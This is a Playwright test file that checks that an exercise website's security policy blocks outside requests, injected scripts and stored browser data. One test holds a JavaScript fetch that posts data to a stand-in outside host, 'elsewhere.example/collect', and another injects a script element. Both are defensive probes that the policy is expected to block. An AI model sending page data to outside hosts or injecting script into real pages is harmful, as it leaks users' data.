"""Nothing comes from elsewhere, and nothing can go elsewhere: checked where it counts, in the browser."""

from urllib.parse import urlsplit

from playwright.sync_api import Page

from tests.browser.conftest import Open
from tests.site.addresses import LANGUAGES, address, general_pages

BROKEN_OFF = "net::ERR_ABORTED"
ELSEWHERE = "https://elsewhere.example/collect"
TRY_TO_SEND = """async (address) => {
  const blocked = new Promise((resolve) =>
    self.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective)));
  let sent = true;
  try { await fetch(address, {method: "POST", body: "a picture", mode: "no-cors"}); } catch { sent = false; }
  return [sent, await blocked];
}"""


def test_no_page_asks_anything_of_another_site(opened: Open, site: str) -> None:
    page = opened("/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for language in LANGUAGES:
        addresses = [address("exercise", language, "plank"), address("exercise-sheet", language, "plank")]
        for path in (*general_pages(language), *addresses):
            page.goto(path)
            page.evaluate("document.fonts.ready")
    assert len(asked) > 30
    assert {urlsplit(url).netloc for url in asked if not url.startswith("data:")} == {urlsplit(site).netloc}


def test_a_page_cannot_send_anything_to_another_site(opened: Open) -> None:
    assert opened("/oefeningen/plank/").evaluate(TRY_TO_SEND, ELSEWHERE) == [False, "connect-src"]


def test_a_page_cannot_run_code_that_was_slipped_in(opened: Open) -> None:
    page = opened("/")
    page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "window.slippedIn = true";
      document.body.append(script);
    }""")
    assert page.evaluate("window.slippedIn === undefined")


def test_no_page_breaks_its_own_policy_or_has_another_error(opened: Open) -> None:
    page = opened("/")
    page.wait_for_load_state("networkidle")  # leaving earlier would break off its pictures
    problems = collect_problems(page)
    for path in (*general_pages("nl"), "/oefeningen/plank/", "/oefeningen/plank/afdrukken/"):
        page.goto(path, wait_until="networkidle")  # leaving earlier would break off the icon
    assert problems == []


def collect_problems(page: Page) -> list[str]:
    """Filled as they come. A request that leaving the page breaks off is none; one that is refused is."""
    problems: list[str] = []
    page.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on(
        "requestfailed",
        lambda request: None if request.failure == BROKEN_OFF else problems.append(request.url),
    )
    return problems


def test_the_browser_keeps_nothing(opened: Open) -> None:
    page = opened("/oefeningen/?q=bal")
    assert page.context.cookies() == []
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
